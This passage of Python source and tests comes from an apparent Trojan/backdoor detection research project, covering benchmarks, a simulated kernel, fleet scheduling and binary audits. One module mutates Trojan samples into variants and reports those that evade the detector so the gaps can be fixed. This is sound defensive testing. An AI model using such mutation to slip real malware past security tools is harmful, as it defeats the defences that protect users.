            f"the {FLEET_SPEEDUP}x fleet speedup gate only applies on "
            "multi-core runners"
        )
        return 0
    if speedup < FLEET_SPEEDUP:
        print(
            f"FAIL: fleet speedup {speedup:.2f}x is below the "
            f"{FLEET_SPEEDUP}x gate on a {cpus}-CPU host",
            file=sys.stderr,
        )
        return 1
    print(f"ok: fleet sweep scales (>= {FLEET_SPEEDUP}x) and is "
          "bit-identical to serial")
    return 0


def check_provenance() -> int:
    """Evidence trails are free to skip and cheap to keep."""
    on_report = run_workload("harrier-full")
    off_report = run_workload("harrier-provenance-off")
    if on_report.result.instructions != off_report.result.instructions:
        print(
            "FAIL: provenance-on retired "
            f"{on_report.result.instructions} instructions, "
            f"provenance-off {off_report.result.instructions}",
            file=sys.stderr,
        )
        return 1
    # Warnings must match modulo the evidence payload itself: the
    # recorder may annotate, never alter, what Secpert concludes.
    def strip(w):
        return re.sub(r"evidence=.*\)$", "evidence=...)", repr(w))

    on_warnings = sorted(strip(w) for w in on_report.warnings)
    off_warnings = sorted(strip(w) for w in off_report.warnings)
    if on_warnings != off_warnings:
        print(
            "FAIL: provenance on/off emitted different warnings "
            "(modulo evidence):\n"
            f"  on:  {on_warnings}\n  off: {off_warnings}",
            file=sys.stderr,
        )
        return 1
    on, off = measure("harrier-full", "harrier-provenance-off")
    ratio = on / off if off else float("inf")
    print(
        f"perf smoke: provenance-on={on * 1000:.2f} ms "
        f"provenance-off={off * 1000:.2f} ms "
        f"overhead={ratio:.2f}x"
    )
    if off > on * NOISE_MARGIN:
        print(
            "FAIL: disabling provenance made the run slower "
            f"(margin {NOISE_MARGIN}x) — the off switch is not a no-op",
            file=sys.stderr,
        )
        return 1
    if ratio > PROVENANCE_OVERHEAD:
        print(
            f"FAIL: provenance recording costs {ratio:.2f}x, above the "
            f"{PROVENANCE_OVERHEAD}x gate",
            file=sys.stderr,
        )
        return 1
    print(
        "ok: provenance recording stays under "
        f"{PROVENANCE_OVERHEAD}x with identical detections"
    )
    return 0


def check_verdict_cache() -> int:
    """Warm hits are bit-identical, ~free, and visible in OpenMetrics."""
    from benchmarks.bench_performance import WORKLOAD_SOURCE
    from repro.api import Session, VerdictCache
    from repro.telemetry.metrics import MetricsRegistry, render_openmetrics

    registry = MetricsRegistry()
    cached = Session(cache=VerdictCache(metrics=registry))
    fresh_report = cached.run(WORKLOAD_SOURCE, path="/bin/perf")

    # Fresh-execution baseline on a warm *uncached* session, so the
    # comparison is hit-vs-execution, not hit-vs-cold-translation.
    plain = Session()
    plain.run(WORKLOAD_SOURCE, path="/bin/perf")  # warm-up
    best_exec = float("inf")
    for _ in range(REPS):
        start = time.perf_counter()
        plain.run(WORKLOAD_SOURCE, path="/bin/perf")
        best_exec = min(best_exec, time.perf_counter() - start)

    samples = []
    hit = None
    for _ in range(CACHE_HIT_SAMPLES):
        start = time.perf_counter()
        hit = cached.run(WORKLOAD_SOURCE, path="/bin/perf")
        samples.append(time.perf_counter() - start)
    hit_p50 = sorted(samples)[len(samples) // 2]

    if json.dumps(hit.to_dict(), sort_keys=True, default=str) != (
        json.dumps(fresh_report.to_dict(), sort_keys=True, default=str)
    ):
        print(
            "FAIL: the cached reply is not bit-identical to execution",
            file=sys.stderr,
        )
        return 1

    speedup = best_exec / hit_p50 if hit_p50 else float("inf")
    print(
        f"perf smoke: exec={best_exec * 1000:.2f} ms "
        f"warm-hit p50={hit_p50 * 1000:.3f} ms "
        f"speedup={speedup:.0f}x "
        f"({cached.cache.stats.hits} hits, "
        f"{cached.cache.stats.misses} miss)"
    )

    exposition = render_openmetrics(registry.samples())
    cache_lines = [
        line for line in exposition.splitlines()
        if line.startswith("cache_") or "TYPE cache_" in line
    ]
    print("perf smoke: OpenMetrics cache families:")
    for line in cache_lines:
        print(f"  {line}")
    for needle in ("cache_hits_total", "cache_misses_total"):
        if not any(needle in line for line in cache_lines):
            print(
                f"FAIL: {needle} missing from the OpenMetrics exposition",
                file=sys.stderr,
            )
            return 1

    if speedup < VERDICT_CACHE_SPEEDUP:
        print(
            f"FAIL: warm verdict-cache hit speedup {speedup:.0f}x is "
            f"below the {VERDICT_CACHE_SPEEDUP:.0f}x gate",
            file=sys.stderr,
        )
        return 1
    print(
        f"ok: warm verdict-cache hits are >= "
        f"{VERDICT_CACHE_SPEEDUP:.0f}x faster than execution and "
        "bit-identical"
    )
    return 0


def check_rule_engine() -> int:
    from benchmarks.bench_rule_engine import (
        RETE_WM_SIZES, build_engine, observe, probe_per_event, stream,
    )

    # Equivalence + end-to-end speedup on the retained event stream.
    best = {"rete": float("inf"), "naive": float("inf")}
    outcomes = {}
    for _ in range(RULE_ENGINE_REPS):
        for label, rete in (("rete", True), ("naive", False)):
            engine = build_engine(rete=rete)
            start = time.perf_counter()
            stream(engine, RULE_ENGINE_STREAM)
            best[label] = min(best[label], time.perf_counter() - start)
            outcomes[label] = observe(engine)
    if outcomes["rete"] != outcomes["naive"]:
        print(
            "FAIL: rete and naive engines disagree on "
            "hits/fire-trace/agenda for the stream workload",
            file=sys.stderr,
        )
        return 1
    speedup = best["naive"] / best["rete"] if best["rete"] else float("inf")
    print(
        f"perf smoke: rule-engine stream ({RULE_ENGINE_STREAM} events) "
        f"rete={best['rete'] * 1000:.1f} ms "
        f"naive={best['naive'] * 1000:.1f} ms "
        f"speedup={speedup:.0f}x"
    )
    if speedup < RULE_ENGINE_SPEEDUP:
        print(
            f"FAIL: rete speedup {speedup:.1f}x is below the "
            f"{RULE_ENGINE_SPEEDUP:.0f}x gate",
            file=sys.stderr,
        )
        return 1

    # Flat scaling: per-event probe cost across 100x WM growth.
    engine = build_engine(rete=True)
    per_event = {}
    grown = 0
    for size in RETE_WM_SIZES:
        stream(engine, size - grown, start=grown)
        grown = size
        per_event[size] = min(
            probe_per_event(engine) for _ in range(RULE_ENGINE_REPS)
        )
    small, large = RETE_WM_SIZES[0], RETE_WM_SIZES[-1]
    ratio = per_event[large] / per_event[small] if per_event[small] else 1.0
    print(
        "perf smoke: rete per-event cost "
        + " ".join(
            f"wm={size}:{per_event[size] * 1e6:.0f}us"
            for size in RETE_WM_SIZES
        )
        + f" flat-ratio={ratio:.2f}"
    )
    if ratio > RULE_ENGINE_FLAT_RATIO:
        print(
            f"FAIL: rete per-event cost grew {ratio:.2f}x from "
            f"{small} to {large} facts (gate "
            f"{RULE_ENGINE_FLAT_RATIO:.0f}x — matching is not flat)",
            file=sys.stderr,
        )
        return 1
    print(
        f"ok: rete is >= {RULE_ENGINE_SPEEDUP:.0f}x faster than the "
        "naive matcher, observationally identical, and flat across "
        f"{large // small}x working-memory growth"
    )
    return 0


#: Name -> check, in default execution order (``perf_smoke <name>...``
#: runs a subset — the CI cache job runs just ``verdict_cache``).
CHECKS = {
    "block_cache": check_block_cache,
    "fastpath": check_fastpath,
    "fleet": check_fleet,
    "provenance": check_provenance,
    "verdict_cache": check_verdict_cache,
    "rule_engine": check_rule_engine,
}


def main(argv=None) -> int:
    names = list(sys.argv[1:] if argv is None else argv) or list(CHECKS)
    unknown = [n for n in names if n not in CHECKS]
    if unknown:
        print(
            f"unknown check(s) {unknown}; available: {list(CHECKS)}",
            file=sys.stderr,
        )
        return 2
    for name in names:
        status = CHECKS[name]()
        if status:
            return status
    return 0


if __name__ == "__main__":
    sys.exit(main())
