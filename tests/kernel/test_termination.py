"""Every way ``Kernel.run`` can end, in one place: the four RunResult
reasons ('all-exited', 'max-ticks', 'deadlock', 'watchdog') and the two
abnormal exit codes (EXIT_FAULT, EXIT_KILLED_BY_MONITOR)."""

from repro.isa import assemble
from repro.kernel import (
    EXIT_FAULT,
    EXIT_KILLED_BY_MONITOR,
    Kernel,
    KernelHooks,
)
from repro.kernel.syscalls import SYS_EXECVE
from repro.programs.libc import libc_image


EXIT_OK = "main:\n  mov eax, 0\n  ret"
SPIN = "main:\nspin:\n  jmp spin"

# accept() with no client ever scheduled: blocked forever.
ACCEPT_FOREVER = """
main:
    call socket
    mov esi, eax
    mov ebx, esi
    mov ecx, 0x7F000001
    mov edx, 1
    call bind_addr
    mov ebx, esi
    call listen
    mov ebx, esi
    call accept
    mov eax, 0
    ret
"""

EXEC_LS = """
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
tgt: .asciz "/bin/ls"
"""


def make_kernel(hooks=None):
    return Kernel(hooks=hooks, libraries=[libc_image()])


class TestRunReasons:
    def test_all_exited(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", EXIT_OK))
        result = k.run()
        assert result.reason == "all-exited"
        assert result.completed

    def test_max_ticks(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", SPIN))
        result = k.run(max_ticks=2000)
        assert result.reason == "max-ticks"
        assert not result.completed
        assert result.ticks >= 2000

    def test_deadlock(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", ACCEPT_FOREVER))
        result = k.run(max_ticks=100_000)
        assert result.reason == "deadlock"
        assert not result.completed

    def test_watchdog(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", SPIN))
        result = k.run(max_ticks=10**9, wall_timeout=0.1)
        assert result.reason == "watchdog"
        assert not result.completed

    def test_no_watchdog_when_run_finishes_in_time(self):
        k = make_kernel()
        k.spawn(assemble("/bin/p", EXIT_OK))
        result = k.run(wall_timeout=30.0)
        assert result.reason == "all-exited"


class TestAbnormalExitCodes:
    def test_cpu_fault_exits_with_exit_fault(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", "main:\n  jmp 0xdead"))
        result = k.run()
        assert result.reason == "all-exited"
        assert proc.exit_code == EXIT_FAULT
        assert result.exit_codes[proc.pid] == EXIT_FAULT

    def test_hlt_exits_with_exit_fault(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", "main:\n  hlt"))
        k.run()
        assert proc.exit_code == EXIT_FAULT
        assert k.faults()

    def test_monitor_veto_kills_with_monitor_code(self):
        class VetoExec(KernelHooks):
            def on_syscall_pre(self, proc, sysno, args, info):
                return sysno != SYS_EXECVE

        k = make_kernel(hooks=VetoExec())
        k.register_binary(assemble("/bin/ls", EXIT_OK))
        proc = k.spawn(assemble("/bin/p", EXEC_LS))
        result = k.run()
        assert result.reason == "all-exited"
        assert proc.exit_code == EXIT_KILLED_BY_MONITOR
        assert proc.killed_by_monitor
        assert result.exit_codes[proc.pid] == EXIT_KILLED_BY_MONITOR


class TestExitCodeMap:
    def test_every_process_reported(self):
        k = make_kernel()
        image = assemble("/bin/p", EXIT_OK)
        a = k.spawn(image)
        b = k.spawn(image)
        result = k.run()
        assert result.exit_codes == {a.pid: 0, b.pid: 0}

    def test_unfinished_process_has_none_exit_code(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", SPIN))
        result = k.run(max_ticks=2000)
        assert result.exit_codes[proc.pid] is None
