"""Picklable workload references and the canonical registry map.

Fleet workers live in separate processes, and :class:`Workload` rows are
not picklable (their ``setup`` callbacks are closures over images and
peers).  What crosses the process boundary instead is a
:class:`WorkloadRef` — (module, factory, name) — which each worker
resolves locally by importing the registry module and picking the row by
name.  Resolution is deterministic: registries build their rows from
static sources, so every process sees the same workload for the same ref.

:data:`repro.programs.registry.REGISTRIES` is the single source of truth
mapping table keys to registry factories; it is re-exported here (with
:data:`REGISTRY_ORDER` and :func:`registry_workloads`) for the CLI
(``repro table``, ``repro chaos``, ``repro fleet``) and the benchmark
harnesses, which historically imported it from this module.
"""

from __future__ import annotations

import importlib
from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.core.options import RunOptions
from repro.programs.base import Workload
from repro.programs.registry import (  # noqa: F401 - re-exported
    REGISTRIES,
    REGISTRY_ORDER,
    registry_workloads,
)


@dataclass(frozen=True)
class WorkloadRef:
    """A workload row by name — small, picklable, resolvable anywhere.

    ``params`` are extra positional arguments for the factory: a plain
    registry factory takes none, while generated rows (the adversarial
    mutator's ``variants(parent, klass, seed)``) are parameterised — the
    tuple must contain only picklable, hashable primitives so refs stay
    frozen and cross process boundaries.
    """

    module: str
    factory: str
    name: str
    params: Tuple[object, ...] = ()

    @classmethod
    def from_registry(cls, key: str, name: str) -> "WorkloadRef":
        module, factory = REGISTRIES[key]
        return cls(module=module, factory=factory, name=name)

    def resolve(self) -> Workload:
        """Import the registry and pick this row (fresh every call)."""
        module = importlib.import_module(self.module)
        rows = getattr(module, self.factory)(*self.params)
        for workload in rows:
            if workload.name == self.name:
                return workload
        raise LookupError(
            f"workload {self.name!r} not found in "
            f"{self.module}.{self.factory}{self.params or '()'}"
        )


def workload_refs(keys: Optional[Sequence[str]] = None) -> List[WorkloadRef]:
    """Refs for every row of the named registries (all 62 by default),
    in registry order then row order — the canonical fleet sweep set."""
    refs: List[WorkloadRef] = []
    for key in keys if keys is not None else REGISTRY_ORDER:
        module, factory = REGISTRIES[key]
        refs.extend(
            WorkloadRef(module=module, factory=factory, name=w.name)
            for w in registry_workloads(key)
        )
    return refs


@dataclass(frozen=True)
class FleetTask:
    """One unit of fleet work: which workload, with which options.

    ``index`` fixes the task's position in the merged report — the
    coordinator orders results by it, which is what makes fleet output
    independent of worker count and scheduling.
    """

    index: int
    ref: WorkloadRef
    options: RunOptions = field(default_factory=RunOptions)


def make_tasks(
    refs: Sequence[WorkloadRef],
    options: Optional[RunOptions] = None,
) -> List[FleetTask]:
    """Number a ref list into tasks sharing one options set."""
    options = options if options is not None else RunOptions()
    return [
        FleetTask(index=i, ref=ref, options=options)
        for i, ref in enumerate(refs)
    ]
