"""Small-surface tests: analyzer helpers, decision policies, monitor-only
operation."""

from repro.core.hth import HTH
from repro.harrier import (
    CollectingAnalyzer,
    EventAnalyzer,
    always_continue,
    always_kill,
)
from repro.isa import assemble


class TestDecisionPolicies:
    def test_always_continue(self):
        assert always_continue(object()) is True

    def test_always_kill(self):
        assert always_kill(object()) is False


class TestCollectingAnalyzer:
    def test_collects_events_without_warnings(self):
        analyzer = CollectingAnalyzer()
        hth = HTH(analyzer=analyzer)
        source = r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov eax, 0
    ret
.data
path: .asciz "/missing"
"""
        report = hth.run(assemble("/bin/t", source))
        assert analyzer.events  # saw the open
        assert report.warnings == []  # collector raises nothing

    def test_base_analyzer_is_silent(self):
        analyzer = EventAnalyzer()
        assert analyzer.analyze(object()) == ()


class TestBenignSummary:
    def test_summary_line_without_warnings(self):
        hth = HTH()
        report = hth.run(
            assemble("/bin/quiet", "main:\n  mov eax, 0\n  ret")
        )
        line = report.summary_line()
        assert line == "/bin/quiet: verdict=benign"
