"""Legacy setup shim.

Allows ``pip install -e . --no-use-pep517`` (setup.py develop) on
environments without the ``wheel`` package, where pip's PEP 517 editable
path cannot build. All real metadata lives in pyproject.toml.
"""

from setuptools import setup

setup()
