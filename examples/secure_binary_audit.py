#!/usr/bin/env python
"""Static Secure Binary audit (paper Appendix B).

Applies the Secure Binary checker to the whole evaluation corpus — the
micro-benchmarks, the trusted tools, and the real exploits — and prints
which binaries hardcode resource identifiers or resource content.

A binary that passes is *safer*, not safe; a binary that fails is a
strong Trojan/backdoor candidate before it ever runs.

Run:  python examples/secure_binary_audit.py
"""

from repro.analysis.secure_binary import check_secure_binary
from repro.programs.exploits.registry import table8_workloads
from repro.programs.micro.execflow import table4_workloads
from repro.programs.trusted.registry import table7_workloads


def audit(title, workloads) -> None:
    print(title)
    print("-" * len(title))
    for workload in workloads:
        report = check_secure_binary(workload.image())
        status = "SECURE    " if report.is_secure else "NOT SECURE"
        print(f"  {status} {workload.name}")
        for violation in report.violations[:3]:
            print(f"             - {violation}")
        if len(report.violations) > 3:
            print(f"             ... {len(report.violations) - 3} more")
    print()


def main() -> None:
    audit("Micro-benchmarks (Table 4)", table4_workloads())
    audit("Trusted programs (Table 7)", table7_workloads())
    audit("Real exploits (Table 8)", table8_workloads())


if __name__ == "__main__":
    main()
