"""The adversarial variant sweep: mutate, fan out, score, report.

This module drives :mod:`repro.programs.mutate` at scale: every Trojan
of Tables 4-8 becomes the parent of N seed-deterministic variants per
mutation class, the whole set fans out through the fleet engine (with
``shard_by="cluster"`` so near-duplicate variants share a worker's warm
caches), and the verdicts come back as a detection-rate matrix —
variant class x policy rule x verdict.

The point of the exercise is the *evasions*: any variant whose verdict
lands **below** its parent's expected severity is a detector blind
spot.  :func:`run_sweep` lists them, :meth:`SweepResult.render_report`
explains them (with the replayed mutation recipe), and the workflow is
to file each one in :mod:`repro.programs.adversarial` and then fix it
(see ``masquerade libc hardcode`` for a completed round trip).

Determinism contract: the BENCH payload (:meth:`SweepResult.to_dict`)
is a pure function of (parents, classes, per-class, seed, options) —
no wall-clock, no scheduling facts — so same-seed reruns are
bit-identical, which CI checks.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.options import RunOptions
from repro.fleet.engine import run_fleet
from repro.fleet.refs import WorkloadRef
from repro.fleet.report import FleetReport
from repro.programs.mutate import MUTATION_CLASSES, variant_name
from repro.programs.registry import find, get

#: Verdict severity order, for "did the variant score at least as high
#: as its parent was expected to".
SEVERITY = {"benign": 0, "low": 1, "medium": 2, "high": 3}

#: Registries the default parent set is drawn from: every *Trojan* row
#: of the micro tables and the real-exploit table.  Table 7 (trusted
#: programs) and the benign halves contribute nothing to hide.
DEFAULT_PARENT_KEYS: Tuple[str, ...] = ("4", "5", "6", "8")


@dataclass(frozen=True)
class PlannedVariant:
    """One sweep cell: where the variant comes from and what a correct
    detector must say about it (inherited from the parent row)."""

    ref: WorkloadRef
    parent: str
    klass: str
    seed: int
    expected_verdict: str
    expected_rules: Tuple[str, ...]

    @property
    def trojan(self) -> bool:
        return self.expected_verdict != "benign"


def default_parents() -> List[str]:
    """Names of every Trojan row in the default registries."""
    return [
        w.name for w in find({"trojan"}, keys=DEFAULT_PARENT_KEYS)
    ]


def plan_sweep(
    parents: Optional[Sequence[str]] = None,
    classes: Optional[Sequence[str]] = None,
    per_class: int = 1,
    seed: int = 0,
) -> List[PlannedVariant]:
    """Lay out the sweep grid: parents x classes x per-class seeds.

    Each cell is a picklable :class:`WorkloadRef` onto
    ``repro.programs.mutate.variants(parent, klass, vseed)`` — workers
    regenerate the variant locally, so the plan itself stays tiny no
    matter how many thousand variants it spans.
    """
    parent_names = (
        list(parents) if parents is not None else default_parents()
    )
    class_names = (
        list(classes) if classes is not None else list(MUTATION_CLASSES)
    )
    for klass in class_names:
        if klass not in MUTATION_CLASSES:
            raise ValueError(
                f"unknown mutation class {klass!r}; "
                f"choose from {', '.join(MUTATION_CLASSES)}"
            )
    plan: List[PlannedVariant] = []
    for name in parent_names:
        parent = get(name)  # raises LookupError on a bad name, early
        for klass in class_names:
            for i in range(per_class):
                vseed = seed + i
                plan.append(
                    PlannedVariant(
                        ref=WorkloadRef(
                            module="repro.programs.mutate",
                            factory="variants",
                            name=variant_name(name, klass, vseed),
                            params=(name, klass, vseed),
                        ),
                        parent=name,
                        klass=klass,
                        seed=vseed,
                        expected_verdict=parent.expected_verdict.value,
                        expected_rules=tuple(parent.expected_rules),
                    )
                )
    return plan


@dataclass
class SweepResult:
    """Everything one sweep produced: the fleet report, the matrix,
    and the scored evasion list."""

    plan: List[PlannedVariant]
    fleet: FleetReport
    seed: int
    per_class: int
    matrix: Dict[str, Dict[str, object]] = field(default_factory=dict)
    evasions: List[Dict[str, object]] = field(default_factory=list)
    escalations: List[Dict[str, object]] = field(default_factory=list)
    errors: List[Dict[str, object]] = field(default_factory=list)

    @property
    def total(self) -> int:
        return len(self.plan)

    @property
    def detection_rate(self) -> float:
        """Fraction of completed *Trojan* variants scored at or above
        the parent's expected severity."""
        detected = scored = 0
        for klass in self.matrix.values():
            scored += klass["trojans"]  # type: ignore[operator]
            detected += klass["detected"]  # type: ignore[operator]
        return detected / scored if scored else 1.0

    @property
    def exact_rate(self) -> float:
        """Fraction of completed variants classified exactly like the
        parent row (verdict and expected rules)."""
        exact = done = 0
        for klass in self.matrix.values():
            done += klass["completed"]  # type: ignore[operator]
            exact += klass["exact"]  # type: ignore[operator]
        return exact / done if done else 1.0

    def to_dict(self) -> Dict[str, object]:
        """The BENCH payload.  Deterministic: configuration + verdict-
        derived facts only, never wall-clock or scheduling."""
        parents = []
        for planned in self.plan:
            if planned.parent not in parents:
                parents.append(planned.parent)
        classes = []
        for planned in self.plan:
            if planned.klass not in classes:
                classes.append(planned.klass)
        return {
            "benchmark": "adversarial_sweep",
            "config": {
                "parents": parents,
                "classes": classes,
                "per_class": self.per_class,
                "seed": self.seed,
                "variants": self.total,
            },
            "matrix": self.matrix,
            "detection_rate": round(self.detection_rate, 6),
            "exact_rate": round(self.exact_rate, 6),
            "evasions": self.evasions,
            "escalations": self.escalations,
            "errors": self.errors,
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2, sort_keys=True)

    def render_report(self) -> str:
        """The human-readable evasion report."""
        lines = [
            "adversarial sweep: "
            f"{self.total} variants, {len(self.matrix)} classes",
            f"detection rate {self.detection_rate:.1%} "
            f"(exact {self.exact_rate:.1%}), "
            f"{len(self.evasions)} evasion(s), "
            f"{len(self.escalations)} escalation(s), "
            f"{len(self.errors)} error(s)",
            "",
            f"{'class':<14} {'total':>6} {'detected':>9} "
            f"{'exact':>6} {'evasions':>9}",
        ]
        for klass in sorted(self.matrix):
            cell = self.matrix[klass]
            lines.append(
                f"{klass:<14} {cell['total']:>6} "
                f"{cell['detected']:>4}/{cell['trojans']:<4} "
                f"{cell['exact']:>6} {len(cell['evasions']):>9}"
            )
        if self.evasions:
            lines.append("")
            lines.append("evasions (file these in repro.programs."
                         "adversarial, then fix them):")
            for evasion in self.evasions:
                lines.append(
                    f"  {evasion['name']}: expected "
                    f"{evasion['expected']} got {evasion['actual']} "
                    f"(rules fired: "
                    f"{', '.join(evasion['rules_fired']) or 'none'})"
                )
                for op in self._recipe_ops(evasion):
                    lines.append(f"      {op}")
        return "\n".join(lines) + "\n"

    @staticmethod
    def _recipe_ops(evasion: Dict[str, object]) -> List[str]:
        """Replay the evasion's mutation to show its recipe (cheap:
        mutation only, no execution)."""
        from repro.programs.mutate import mutate_workload

        try:
            variant = mutate_workload(
                get(str(evasion["parent"])),
                str(evasion["klass"]),
                int(evasion["seed"]),  # type: ignore[arg-type]
            )
        except Exception:  # pragma: no cover - report stays best-effort
            return []
        return list(variant.recipe.ops)  # type: ignore[union-attr]


def _score(plan: Sequence[PlannedVariant],
           fleet: FleetReport) -> SweepResult:
    """Join the plan to the fleet records (by task index) and fold
    everything into the class x rule x verdict matrix."""
    result = SweepResult(plan=list(plan), fleet=fleet, seed=0, per_class=0)
    matrix: Dict[str, Dict[str, object]] = {}
    for planned, record in zip(plan, fleet.runs):
        cell = matrix.setdefault(planned.klass, {
            "total": 0, "completed": 0, "errors": 0,
            "trojans": 0, "detected": 0, "exact": 0,
            "verdicts": {}, "rules": {}, "evasions": [],
        })
        cell["total"] += 1  # type: ignore[operator]
        if record.failed:
            cell["errors"] += 1  # type: ignore[operator]
            result.errors.append({
                "name": planned.ref.name,
                "parent": planned.parent,
                "klass": planned.klass,
                "seed": planned.seed,
                "error": (record.error or "no report").splitlines()[-1],
            })
            continue
        cell["completed"] += 1  # type: ignore[operator]
        verdict = str(record.report["verdict"])
        verdicts = cell["verdicts"]  # type: ignore[assignment]
        verdicts[verdict] = verdicts.get(verdict, 0) + 1
        rules = cell["rules"]  # type: ignore[assignment]
        fired = sorted({
            str(w["rule"])
            for w in record.report.get("warnings", [])
        })
        for rule in fired:
            rules[rule] = rules.get(rule, 0) + 1
        if record.ok:
            cell["exact"] += 1  # type: ignore[operator]
        entry = {
            "name": planned.ref.name,
            "parent": planned.parent,
            "klass": planned.klass,
            "seed": planned.seed,
            "expected": planned.expected_verdict,
            "actual": verdict,
            "rules_fired": fired,
        }
        if planned.trojan:
            cell["trojans"] += 1  # type: ignore[operator]
            if SEVERITY[verdict] >= SEVERITY[planned.expected_verdict]:
                cell["detected"] += 1  # type: ignore[operator]
            else:
                cell["evasions"].append(  # type: ignore[union-attr]
                    planned.ref.name
                )
                result.evasions.append(entry)
        elif SEVERITY[verdict] > SEVERITY[planned.expected_verdict]:
            result.escalations.append(entry)
    result.matrix = matrix
    return result


def run_sweep(
    parents: Optional[Sequence[str]] = None,
    classes: Optional[Sequence[str]] = None,
    per_class: int = 1,
    seed: int = 0,
    options: Optional[RunOptions] = None,
    workers: int = 4,
    shard_by: str = "cluster",
    max_retries: int = 1,
    cache_dir: Optional[str] = None,
) -> SweepResult:
    """Plan, fan out, and score one adversarial sweep.

    Defaults sweep every mutation class over every Trojan of Tables
    4-8; ``per_class`` scales the grid (30 parents x 7 classes means
    ``per_class=5`` already exceeds a thousand variants).  The fleet
    side reuses the cluster sharding of the verdict-cache work so the
    near-identical variants of one parent stay on one warm worker.
    """
    plan = plan_sweep(parents, classes, per_class, seed)
    if options is None:
        # Belt and suspenders: adversarial inputs are exactly where a
        # runaway guest is most likely, so sweeps always run with a
        # per-variant wall watchdog (a hit surfaces as an error row).
        options = RunOptions(wall_timeout=60.0)
    fleet = run_fleet(
        [planned.ref for planned in plan],
        options=options,
        workers=workers,
        shard_by=shard_by,
        max_retries=max_retries,
        cache_dir=cache_dir,
    )
    result = _score(plan, fleet)
    result.seed = seed
    result.per_class = per_class
    return result
