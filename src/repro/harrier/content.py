"""Transferred-content classification (paper section 10, item 5).

"If we can analyze and detect what the type of a downloaded file is
(.gif, .doc or .exe) we can incorporate this to our policy.  The
detection itself does not need to be based on the suffix, analyzing the
content itself may be more accurate."

This sniffer looks at leading magic bytes, not names: the simulated
kernel's executables start with ``\\x7fEXE`` (real ELF uses ``\\x7fELF``;
both are recognized), scripts with ``#!``.
"""

from __future__ import annotations

#: Content classes attached to DataTransferEvents.
CONTENT_EXECUTABLE = "executable"
CONTENT_SCRIPT = "script"
CONTENT_TEXT = "text"
CONTENT_BINARY = "binary"
CONTENT_EMPTY = "empty"

_EXECUTABLE_MAGICS = (b"\x7fEXE", b"\x7fELF", b"MZ")


def sniff_content(data: bytes) -> str:
    """Classify transferred bytes by leading magic."""
    if not data:
        return CONTENT_EMPTY
    for magic in _EXECUTABLE_MAGICS:
        if data.startswith(magic):
            return CONTENT_EXECUTABLE
    if data.startswith(b"#!"):
        return CONTENT_SCRIPT
    sample = data[:64]
    printable = sum(1 for b in sample if 32 <= b < 127 or b in (9, 10, 13))
    if printable == len(sample):
        return CONTENT_TEXT
    return CONTENT_BINARY
