"""Fleet-level reports: per-run records plus the merged roll-up.

A worker streams one wire dict per finished task (the ``RunReport``
dict, retry history, and optional span dicts); the coordinator rebuilds
them as :class:`FleetRunRecord` and orders them by task index into a
:class:`FleetReport`.  Everything inside ``record.report`` is exactly
what a serial run of the same workload with the same options produces —
wall-clock fields (``elapsed``) and scheduling facts (``worker``,
``attempts``) live *outside* it, which is what lets the determinism
suite compare fleet output against serial bit for bit.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.telemetry import TelemetrySnapshot

#: Version of the ``FleetReport.to_dict()`` wire format (the per-run
#: report dicts inside it carry their own ``schema_version``).
#: v2: added the top-level ``partial`` flag (graceful-shutdown drains
#: emit a report for the work that finished; cancelled tasks appear as
#: error records) and ``summary.cancelled``.
FLEET_SCHEMA_VERSION = 2

#: Error-text prefix of records synthesized for tasks a drain skipped.
CANCELLED_PREFIX = "cancelled"


@dataclass
class FleetRunRecord:
    """One task's outcome as the coordinator sees it."""

    index: int
    name: str
    worker: int
    attempts: int = 1
    #: Why each non-final attempt was retried ("watchdog",
    #: "monitor-fault", "error"), in attempt order.
    retries: List[str] = field(default_factory=list)
    #: Did the run land on the workload's expected classification?
    ok: Optional[bool] = None
    #: ``RunReport.to_dict()`` of the final attempt (None if every
    #: attempt raised).
    report: Optional[Dict[str, object]] = None
    #: Finished span dicts of the final attempt, when tracing was on.
    spans: Optional[List[Dict[str, object]]] = None
    #: Traceback text when the final attempt raised.
    error: Optional[str] = None
    #: Worker-side wall seconds across all attempts.
    elapsed: float = 0.0

    @property
    def failed(self) -> bool:
        return self.error is not None or self.report is None

    @property
    def cancelled(self) -> bool:
        """True for a record synthesized when a drain skipped the task."""
        return bool(self.error) and self.error.startswith(CANCELLED_PREFIX)

    @property
    def verdict(self) -> Optional[str]:
        if self.report is None:
            return None
        return self.report["verdict"]  # type: ignore[return-value]

    @classmethod
    def from_wire(cls, data: Dict[str, object]) -> "FleetRunRecord":
        return cls(
            index=int(data["index"]),
            name=str(data["name"]),
            worker=int(data["worker"]),
            attempts=int(data.get("attempts", 1)),
            retries=list(data.get("retries") or []),
            ok=data.get("ok"),
            report=data.get("report"),
            spans=data.get("spans"),
            error=data.get("error"),
            elapsed=float(data.get("elapsed", 0.0)),
        )

    def to_dict(self) -> Dict[str, object]:
        return {
            "index": self.index,
            "name": self.name,
            "worker": self.worker,
            "attempts": self.attempts,
            "retries": list(self.retries),
            "ok": self.ok,
            "report": self.report,
            "error": self.error,
            "elapsed": self.elapsed,
        }


@dataclass
class FleetReport:
    """All task outcomes of one fleet run, in task-index order."""

    workers: int
    shard_by: str
    max_retries: int
    runs: List[FleetRunRecord] = field(default_factory=list)
    #: Coordinator wall seconds, submit to last result.
    wall_seconds: float = 0.0
    #: Merged telemetry across every run that carried a snapshot.
    telemetry: Optional[TelemetrySnapshot] = None
    #: True when a shutdown signal drained the fleet before every task
    #: ran; the skipped tasks appear as ``cancelled`` error records.
    partial: bool = False
    #: Merged verdict-cache counters across workers, when the fleet ran
    #: with a shared cache (``cache_dir=``); None otherwise.  Optional
    #: addition within wire schema v2 — absent keys read as no cache.
    cache_stats: Optional[Dict[str, object]] = None

    @property
    def failures(self) -> List[FleetRunRecord]:
